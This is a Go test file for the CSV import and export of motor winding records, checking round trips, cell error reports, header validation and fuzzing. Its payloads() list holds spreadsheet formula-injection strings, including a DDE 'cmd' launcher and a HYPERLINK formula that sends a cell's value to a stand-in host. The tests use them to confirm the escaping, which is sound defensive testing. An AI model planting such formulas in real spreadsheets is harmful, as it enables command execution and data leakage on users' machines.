package bundle

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"statorbook/internal/errs"
	"statorbook/internal/jsonin"
)

// sheetOf writes records as a CSV sheet.
func sheetOf(t require.TestingT, records ...Winding) string {
	var h CSVHeader
	for _, r := range records {
		require.NoError(t, h.Add(r))
	}
	var out bytes.Buffer
	w, err := NewCSVWriter(&out, h.Names())
	require.NoError(t, err)
	for _, r := range records {
		require.NoError(t, w.Write(r))
	}
	require.NoError(t, w.Flush())
	return out.String()
}

// rowsOf reads a sheet to its end.
func rowsOf(t require.TestingT, sheet string) []CSVRow {
	r, err := NewCSVReader(strings.NewReader(sheet))
	require.NoError(t, err)
	var rows []CSVRow
	for {
		row, err := r.Next()
		if errors.Is(err, io.EOF) {
			return rows
		}
		require.NoError(t, err)
		rows = append(rows, row)
	}
}

// plainRecord leaves out of a drawn record what a sheet does not carry: what only the server says, and
// objects that are there but empty.
func plainRecord(t *rapid.T) Winding {
	w := WindingOf(drawWinding(t))
	w.ID, w.Revision = drawnUUID, max(w.Revision, 1)
	return withoutServer(w)
}

func withoutServer(w Winding) Winding {
	w.Findings, w.Witness, w.ETag = nil, Witness{}, ""
	w.CreatedAt, w.ModifiedAt = Standing{}.CreatedAt, Standing{}.ModifiedAt
	if w.Liner != nil && *w.Liner == (Liner{}) {
		w.Liner = nil
	}
	if w.CoreAsMeasured != nil && *w.CoreAsMeasured == (Core{}) {
		w.CoreAsMeasured = nil
	}
	w.Leads = slices.DeleteFunc(w.Leads, func(l Lead) bool { return l == Lead{} })
	if len(w.Leads) == 0 {
		w.Leads = nil
	}
	return w
}

// Export and import give the same records with the same content hashes (row S14, issue of vetted records).
func TestCSVRoundTrip(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		records := []Winding{plainRecord(t), plainRecord(t)}
		records[1].ID = recordID(1)
		sheet := sheetOf(t, records...)
		rows := rowsOf(t, sheet)
		require.Len(t, rows, 2)
		for i, row := range rows {
			require.Empty(t, row.Problems, sheet)
			require.Equal(t, i+2, row.Number)
			require.Equal(t, records[i], *row.Winding, sheet)
			want, err := ContentHash(records[i])
			require.NoError(t, err)
			got, err := ContentHash(*row.Winding)
			require.NoError(t, err)
			require.Equal(t, want, got)
		}
		require.Equal(t, sheet, sheetOf(t, *rows[0].Winding, *rows[1].Winding), "writing is stable")
	})
}

// All records of the seeds and of the sample worlds pass through a sheet unchanged.
func TestCSVTakesTheWorlds(t *testing.T) {
	t.Parallel()
	for _, file := range []string{filepath.Join("..", "..", "seeds", "demo.jsonl"), filepath.Join(samples, "plain-catalogue.jsonl"), filepath.Join(samples, "perturbed-catalogue.jsonl")} {
		var records []Winding
		for _, l := range readAll(t, openFile(t, file)) {
			if l.Kind == KindWinding {
				records = append(records, withoutServer(*l.Winding))
			}
		}
		require.NotEmpty(t, records)
		rows := rowsOf(t, sheetOf(t, records...))
		require.Len(t, rows, len(records))
		for i, row := range rows {
			require.Empty(t, row.Problems)
			require.Equal(t, records[i], *row.Winding)
		}
	}
}

// A sheet as a technician fills it in, by hand.
func TestCSVByHand(t *testing.T) {
	t.Parallel()
	sheet := "core_slots,core_gap_diameter_mm,core_gap_diameter_mm_uncertainty,poles,main_pattern,main_throws,main_turns,main_groups,main_wire_system,main_wire_size,main_wire_conductor,main_wire_strands," +
		"auxiliary_coils,auxiliary_wire_system,auxiliary_wire_size,auxiliary_wire_conductor,auxiliary_wire_strands,demo,quality,remarks\n" +
		`24,60.50,0.02,4,concentric,6 4,80 60,4,metric,0.500,copper,1,1-6:70 7-12:70.5,swg,34,copper,1,yes,scheme=counted; core_as_measured=measured,"burnt, ""black"""` + "\n" +
		",,,,,,,,,,,,,,,,,,,\n"
	rows := rowsOf(t, "\uFEFF"+sheet)
	require.Len(t, rows, 1, "an empty row is no record")
	require.Empty(t, rows[0].Problems)
	w := rows[0].Winding
	require.Equal(t, "60.50", w.CoreAsMeasured.GapDiameter.Text)
	require.Equal(t, 0.02, w.CoreAsMeasured.GapDiameter.Uncertainty)
	require.Equal(t, Count(24), w.CoreAsMeasured.Slots)
	require.Equal(t, Count(4), w.Scheme.Poles)
	require.Len(t, w.Scheme.CoilSets, 2)
	require.Equal(t, CoilSet{Role: "main", Wires: []Wire{{System: "metric", Size: "0.500", Conductor: "copper", Strands: 1}},
		Pattern: &Pattern{Kind: "concentric", Throws: []int{6, 4}, Turns: []float64{80, 60}, Groups: 4}}, w.Scheme.CoilSets[0])
	require.Equal(t, []Coil{{1, 6, 70}, {7, 12, 70.5}}, w.Scheme.CoilSets[1].Coils)
	require.Equal(t, map[string]string{"scheme": "counted", "core_as_measured": "measured"}, w.Quality)
	require.Equal(t, `burnt, "black"`, w.Remarks)
	require.True(t, w.Demo)
	require.Equal(t, 1, w.Revision)
	require.True(t, jsonin.IsUUID(w.ID))
	require.Equal(t, byte('8'), w.ID[14], "RFC 9562: version 8")
	require.Contains(t, "89ab", string(w.ID[19]))
	require.Equal(t, w.ID, rowsOf(t, sheet)[0].Winding.ID, "the same row is the same record")
	require.NotEqual(t, w.ID, rowsOf(t, strings.Replace(sheet, "80 60", "80 61", 1))[0].Winding.ID)
}

// Every bad cell is named with its column and a remedy, and does not stop the other rows.
func TestCSVRowReport(t *testing.T) {
	t.Parallel()
	const head = "core_gap_diameter_mm,core_slots,motor_type,demo,main_turns,main_coils,main_wire_system,main_wire_conductor,main_wire_strands,main_wire_2_size,main_wire_3_size,quality,lead_2_mark,id,coil_sets,plate_power_w_uncertainty,text_escape,remarks\n"
	for name, tc := range map[string]struct {
		row  string
		want []string
	}{
		"decimal comma":      {`"60,5",,,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm NOT_A_NUMBER"}},
		"unit in the cell":   {`60.5 mm,,,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm NOT_A_NUMBER"}},
		"out of range":       {`60000.5,,,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm OUT_OF_RANGE"}},
		"not whole":          {`,24.5,,,,,,,,,,,,,,,,`, []string{"core_slots NOT_AN_INTEGER"}},
		"too large":          {`1e400,,,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm NUMBER_OVERFLOW"}},
		"too long":           {`0.000000000000000000000000000000001,,,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm NUMBER_TOO_LONG"}},
		"unknown word":       {`,,split_fase,,,,,,,,,,,,,,,`, []string{"motor_type VALUE_NOT_ALLOWED"}},
		"neither yes nor no": {`,,,perhaps,,,,,,,,,,,,,,`, []string{"demo CELL_FORM"}},
		"turns in words":     {`,,,,80 many,,bare,copper,1,,,,,,,,,`, []string{"main_turns NOT_A_NUMBER"}},
		"turns beyond":       {`,,,,80 30000,,bare,copper,1,,,,,,,,,`, []string{"main_turns OUT_OF_RANGE"}},
		"coils":              {`,,,,,1-8,bare,copper,1,,,,,,,,,`, []string{"main_coils CELL_FORM"}},
		"coil slot beyond":   {`,,,,,1-999:3,bare,copper,1,,,,,,,,,`, []string{"main_coils OUT_OF_RANGE"}},
		"coils and turns":    {`,,,,80,1-8:33,bare,copper,1,,,,,,,,,`, []string{" CONFLICTING_NAMES"}},
		"no metal":           {`,,,,,1-8:33,bare,,1,,,,,,,,,`, []string{" REQUIRED"}},
		"no second wire":     {`,,,,,1-8:33,bare,copper,1,,34,,,,,,,`, []string{" GAP"}},
		"no first lead":      {`,,,,,,,,,,,,U1,,,,,`, []string{" GAP"}},
		"quality":            {`,,,,,,,,,,,counted,,,,,,`, []string{"quality CELL_FORM"}},
		"quality twice":      {`,,,,,,,,,,,a=plate;a=plate,,,,,,`, []string{"quality CELL_FORM"}},
		"quality word":       {`,,,,,,,,,,,scheme=guessed,,,,,,`, []string{"quality VALUE_NOT_ALLOWED"}},
		"id":                 {`,,,,,,,,,,,,,demo-fan,,,,`, []string{"id INVALID_FORMAT"}},
		"unknown coil set":   {`,,,,,,,,,,,,,,main third,,,`, []string{"coil_sets CELL_FORM"}},
		"coil set twice":     {`,,,,,,,,,,,,,,main main,,,`, []string{"coil_sets CELL_FORM"}},
		"second set alone":   {`,,,,,,,,,,,,,,main_2,,,`, []string{" GAP"}},
		"no value":           {`,,,,,,,,,,,,,,,2,,`, []string{"plate_power_w_uncertainty REQUIRED"}},
		"another escape":     {`,,,,,,,,,,,,,,,,backslash,`, []string{"text_escape CELL_FORM"}},
		"bad UTF-8":          {",,,,,,,,,,,,,,,,,\xff", []string{"remarks INVALID_UTF8"}},
		"control character":  {",,,,,,,,,,,,,,,,,a\x00b", []string{"remarks FORBIDDEN_CHARACTER"}},
		"two at once":        {`x,24.5,what,,,,,,,,,,,,,,,`, []string{"core_gap_diameter_mm NOT_A_NUMBER"}},
		"two of the reader":  {`,24.5,what,,,,,,,,,,,,,,,`, []string{"core_slots NOT_AN_INTEGER", "motor_type VALUE_NOT_ALLOWED"}},
		"too few cells":      {`60.5,24`, []string{" CELL_COUNT"}},
		"too many cells":     {strings.Repeat(",", 18), nil},
		"one too many":       {strings.Repeat(",", 18) + "x", []string{" CELL_COUNT"}},
		"bare quote":         {`60"5,,,,,,,,,,,,,,,,,`, []string{" CSV_SYNTAX"}},
	} {
		rows := rowsOf(t, head+tc.row+"\n60.5,24,,,,,,,,,,,,,,,,good\n")
		last := rows[len(rows)-1]
		require.Empty(t, last.Problems, "%s: the next row is not touched", name)
		require.Equal(t, "good", last.Winding.Remarks)
		require.Equal(t, 3, last.Number)
		var got []string
		for _, p := range rows[0].Problems {
			got = append(got, p.Column+" "+p.Code)
			require.NotEmpty(t, p.Detail)
		}
		slices.Sort(got)
		if tc.want == nil {
			require.Len(t, rows, 1, name)
			continue
		}
		require.Nil(t, rows[0].Winding, name)
		require.Equal(t, tc.want, got, "%s: %v", name, rows[0].Problems)
	}
	open := rowsOf(t, head+"60.5,\"never closed\nand more\n")
	require.Len(t, open, 1)
	require.Equal(t, CodeCSVSyntax, open[0].Problems[0].Code)
}

func TestCSVHeader(t *testing.T) {
	t.Parallel()
	for sheet, want := range map[string]string{
		"":                                  "empty",
		"core_slots;poles\n":                "commas",
		"\xff\xfec\x00o\x00r\x00e\x00":      "UTF-16",
		"\xfe\xff\x00c\x00o\x00r\x00e":      "UTF-16",
		"PK\x03\x04\x14\x00":                "workbook",
		"\x1f\x8b\x08\x00":                  "packed",
		"core_slots\tpoles\n":               "commas",
		"core_slots,poles,core_slots\n":     "stands twice",
		"core_slots,,poles\n":               "column 2 has no name",
		"core_slot,poles\n":                 "did you mean core_slots?",
		"Core_Slots\n":                      "did you mean core_slots?",
		"colour of the motor\n":             "rename it or take it out",
		"main_1_turns\n":                    "no such column",
		"main_25_turns\n":                   "no such column",
		"main_wire_9_size\n":                "no such column",
		"lead_61_mark\n":                    "no such column",
		"lead_01_mark\n":                    "no such column",
		"third_turns\n":                     "no such column",
		"findings\n":                        "no such column",
		"author\n":                          "no such column",
		"core_slots_uncertainty\n":          "no such column",
		"\"core_slots\n":                    "header row cannot be read",
		strings.Repeat("x", maxCSVRow+8192): "longer than",
	} {
		_, err := NewCSVReader(strings.NewReader(sheet))
		require.ErrorContains(t, err, want, "%.40q", sheet)
		require.Equal(t, errs.KindSyntax, errs.KindOf(err))
	}
	_, err := NewCSVReader(strings.NewReader("core_slot,pole,poles,poles\n"))
	var e *errs.Error
	require.True(t, errors.As(err, &e))
	require.Len(t, e.Fields, 3, "all faults of a header are named together")

	r, err := NewCSVReader(io.MultiReader(strings.NewReader("remarks\n\""), io.LimitReader(endless{}, 1<<30)))
	require.NoError(t, err)
	_, err = r.Next()
	require.Equal(t, errs.KindTooLarge, errs.KindOf(err), "a cell without end is not read into memory")
	_, err = r.Next()
	require.ErrorIs(t, err, io.EOF)
	_, err = NewCSVReader(broken{})
	require.ErrorContains(t, err, "the pipe broke")
	_, err = NewCSVWriter(io.Discard, []string{"colour"})
	require.Error(t, err)
	w, err := NewCSVWriter(io.Discard, []string{"id"})
	require.NoError(t, err)
	require.ErrorContains(t, w.Write(proofWinding(1)), "header lacks")
}

// payloads are the starts of cells that spreadsheets run, and what people do to get past an escape
// (row S14 asks for 60 cells).
func payloads() []string {
	var list []string
	for _, start := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", "'", "''+"} {
		for _, rest := range []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://demo.invalid?x="&A1,"x")`, "SUM(1,2)*cmd|' /C calc'!A0", "2+5+cmd", ""} {
			list = append(list, start+rest)
		}
	}
	return append(list, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "'\t=1", " =1+1", "a=1", "1-8", "-5", "+5", "0x41", `"=1+1"`, "=\"quoted\",comma", "é=1")
}

func TestCSVPayloads(t *testing.T) {
	t.Parallel()
	list := payloads()
	require.GreaterOrEqual(t, len(list), 60)
	for _, p := range list {
		cell := escapeCell(p)
		require.Equal(t, p, unescapeCell(cell), "%q", p)
		for _, bad := range csvTriggers {
			require.False(t, strings.HasPrefix(cell, string(bad)), "%q", cell)
		}
		w := proofWinding(1)
		w.Source, w.Remarks, w.Quality = p, p, map[string]string{p + "; a=b": "counted"}
		w.Nameplate.Duty = p
		if strings.Contains(p, "\r") {
			require.ErrorContains(t, new(CSVHeader).Add(w), "carriage return")
			continue
		}
		sheet := sheetOf(t, w)
		cells, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
		require.NoError(t, err)
		require.Contains(t, cells[0], csvEscapeColumn, "the header says that cells are escaped")
		for i, c := range cells[1] {
			column, ok := parseColumn(cells[0][i])
			require.True(t, ok)
			if column.text() {
				require.False(t, c != "" && startsFormula(c) && c[0] != '\'', "%s: %q", cells[0][i], c)
			}
		}
		rows := rowsOf(t, sheet)
		if strings.ContainsAny(p, "\t\n\x00") { // no record can hold them; the reader says so
			require.NotEmpty(t, rows[0].Problems, "%q", p)
			continue
		}
		require.Empty(t, rows[0].Problems, "%q", p)
		require.Equal(t, w, *rows[0].Winding)
	}
	cold := proofWinding(1)
	cold.Scheme.CoilSets[0].Temperature.Given, cold.Scheme.CoilSets[0].Temperature.Value, cold.Scheme.CoilSets[0].Temperature.Text = true, -5, "-5"
	require.Contains(t, sheetOf(t, cold), ",-5,", "numbers stay numbers")
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringOf(rapid.SampledFrom([]rune("'=+-@a1\t ＝é"))).Draw(t, "text")
		require.Equal(t, s, unescapeCell(escapeCell(s)))
	})
}

// RFC 4180: comma, CR LF, double quotes doubled; UTF-8; the same number of cells in each row; and a
// status in each row (contract rule 7).
func TestCSVForm(t *testing.T) {
	t.Parallel()
	a, b := proofWinding(1), proofWinding(2)
	a.Status, b.Status = "demo", "foreign"
	a.Remarks = "two\nlines, \"quoted\" é"
	sheet := sheetOf(t, a, b)
	require.Contains(t, sheet, "\"two\r\nlines, \"\"quoted\"\" é\"")
	require.Equal(t, strings.Count(sheet, "\n"), strings.Count(sheet, "\r\n"))
	require.True(t, strings.HasPrefix(sheet, "id,slug,revision,state,status,institute,demo,"))
	cells, err := csv.NewReader(strings.NewReader(sheet)).ReadAll() // refuses rows of unequal length
	require.NoError(t, err)
	require.Equal(t, []string{"demo", "foreign"}, []string{cells[1][4], cells[2][4]})
	require.Equal(t, a.Remarks, rowsOf(t, sheet)[0].Winding.Remarks)

	var empty CSVHeader
	require.NoError(t, empty.Add(Winding{}))
	require.Subset(t, empty.Names(), csvFirst)
}

// The map of columns is what the reader takes, and nothing of a record is without a column.
func TestCSVColumns(t *testing.T) {
	t.Parallel()
	columns := CSVColumns()
	byName := map[string]CSVColumn{}
	for _, c := range columns {
		_, twice := byName[c.Name]
		require.False(t, twice, c.Name)
		byName[c.Name] = c
		_, ok := parseColumn(c.Name)
		require.True(t, ok, c.Name)
		require.NotEmpty(t, c.Holds, c.Name)
		require.LessOrEqual(t, len(c.Name), 64)
	}
	require.Equal(t, "mm", byName["core_gap_diameter_mm"].Unit)
	require.Equal(t, "uF", byName["plate_capacitor_uf"].Unit)
	require.Equal(t, 0.01, *byName["core_gap_diameter_mm"].Min)
	require.Equal(t, []string{"copper", "aluminium"}, byName["main_wire_conductor"].Allowed)
	require.Equal(t, []string{"lap", "concentric", "tooth", "skein"}, byName["main_pattern"].Allowed)
	for _, name := range []string{"core_second_ring_turned_slots", "main_throws", "main_turns", "main_alternate", "main_tap", "liner_thickness_mm", "lead_1_section_mm2", "poles", "remarks", "withdrawn_reason"} {
		require.Contains(t, byName, name)
	}
	for _, name := range []string{"findings", "etag", "created_at", "author", "vetter", "sha256", "main_role"} {
		require.NotContains(t, byName, name)
	}
}

func FuzzCSVReader(f *testing.F) {
	f.Add("core_slots,remarks\n24,x\n")
	f.Add(sheetOf(f, proofWinding(1), proofWinding(2)))
	f.Add("main_turns,main_2_turns,lead_1_mark\n1,2,\"\n")
	f.Fuzz(func(t *testing.T, sheet string) {
		r, err := NewCSVReader(strings.NewReader(sheet))
		if err != nil {
			return
		}
		for range len(sheet) + 2 {
			row, err := r.Next()
			if err != nil {
				return
			}
			require.True(t, (row.Winding == nil) == (row.Problems != nil))
			if row.Winding != nil {
				w := withoutServer(*row.Winding)
				back := rowsOf(t, sheetOf(t, w))
				require.Empty(t, back[0].Problems)
				require.Equal(t, w, *back[0].Winding)
			}
		}
		require.Fail(t, "the reader does not come to an end")
	})
}

func BenchmarkCSV(b *testing.B) {
	records := make([]Winding, 1000)
	for i := range records {
		records[i] = proofWinding(i)
	}
	sheet := sheetOf(b, records...)
	b.Run("write", func(b *testing.B) {
		for b.Loop() {
			sheetOf(b, records...)
		}
	})
	b.Run("read", func(b *testing.B) {
		for b.Loop() {
			rowsOf(b, sheet)
		}
	})
}
